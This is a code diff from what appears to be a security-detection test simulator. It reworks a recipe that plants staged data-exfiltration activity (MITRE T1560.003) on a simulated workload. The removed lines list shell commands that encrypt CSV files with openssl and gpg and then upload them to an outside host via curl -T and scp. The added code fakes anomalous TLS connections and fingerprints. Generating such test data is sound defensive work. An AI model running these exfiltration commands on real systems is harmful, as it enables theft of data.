@@ -1,30 +1,54 @@
+import { cipherOf } from '../records/zeek.ts'
 import { HOUR } from '../rhythm.ts'
+import { HELPERS, LIBRARIES, type Edge, type Workload } from '../world.ts'
 import type { Recipe } from './planted.ts'
 import { isService, namesOf, within } from './suits.ts'
 
-/** Each is worth a line that nobody reads; of different tactics. */
-const SMALL: readonly (readonly [binary: string, args: string])[] = [
-  ['/usr/bin/openssl', 'enc -aes-256-cbc -pbkdf2 -in /srv/report.csv -out /srv/report.bin -k x'],
-  ['/usr/bin/curl', '-T /srv/report.bin https://files.partner.example/in/'],
-  ['/usr/bin/openssl', 'genrsa -out /srv/k.pem 2048'],
-  ['/usr/bin/gpg', '--symmetric --batch /srv/list.csv'],
-  ['/usr/bin/scp', '/srv/list.csv.gpg backup@files.partner.example:'],
-]
+const toOutside = ({ isOutside, tls }: Edge): boolean => isOutside && tls !== undefined
+
+const talkative = (one: Workload): boolean => isService(one) && one.edges.some(toOutside)
 
 const heap: Recipe = {
   kind: 'risk',
   row: 'A14',
   strategy: 't1560.003-archive-via-custom-method',
-  what: 'five small findings of several tactics about one workload within a day',
+  what: 'four small things that are new to one workload and usual for others, of several tactics, within some hours',
   share: 3,
   plant({ life, random, from, target }) {
-    const workload = target(isService)
-    if (workload === undefined) return undefined
-    const hours = random.between(5, 7)
-    for (const [n, [binary, args]] of SMALL.entries())
-      within(life, workload, from + (n * hours * HOUR) / SMALL.length, (one) =>
-        life.fleet.execute(one, binary, args, '/bin/sh'),
-      )
+    const workload = target(talkative)
+    const edge = workload?.edges.find(toOutside)
+    if (workload === undefined || edge === undefined) return undefined
+    const known = new Set(workload.edges.map(({ to }) => to))
+    const others = [...life.world.outside.values()].filter(
+      ({ name, port }) => port === 443 && !known.has(name),
+    )
+    const [stranger, friend] = random.some(others, 2)
+    if (stranger === undefined || friend === undefined) return undefined
+    const program = random.pick(HELPERS.filter((one) => !workload.programs.includes(one)))
+    const ja3 = random.pick(LIBRARIES.filter((one) => one !== workload.ja3))
+    const hours = random.between(4, 7)
+    const at = (step: number): number => from + (step * hours * HOUR) / 4
+    within(life, workload, at(0), (one) => life.fleet.execute(one, program, '', '/bin/sh'))
+    within(life, workload, at(1), (one) => life.traffic.usual(one, edge, { ja3 }))
+    within(life, workload, at(2), ({ address: client }) => {
+      const server = random.pick(stranger.addresses)
+      life.traffic.ask(client, stranger.name, 'A', stranger.addresses)
+      const flow = { client, server, port: 443, service: 'ssl', sent: 4_000, received: 9_000, duration: 3 }
+      const { name, issuer } = stranger
+      life.traffic.connect(flow, { version: 'TLSv12', cipher: cipherOf('TLSv12'), name, issuer, ja3 })
+    })
+    within(life, workload, at(3), ({ address: client }) => {
+      const server = random.pick(friend.addresses)
+      life.traffic.connect({
+        client,
+        server,
+        port: 443,
+        service: 'ssl',
+        sent: 4_000,
+        received: 9_000,
+        duration: 3,
+      })
+    })
     return { names: namesOf(workload), until: from + hours * HOUR }
   },
 }
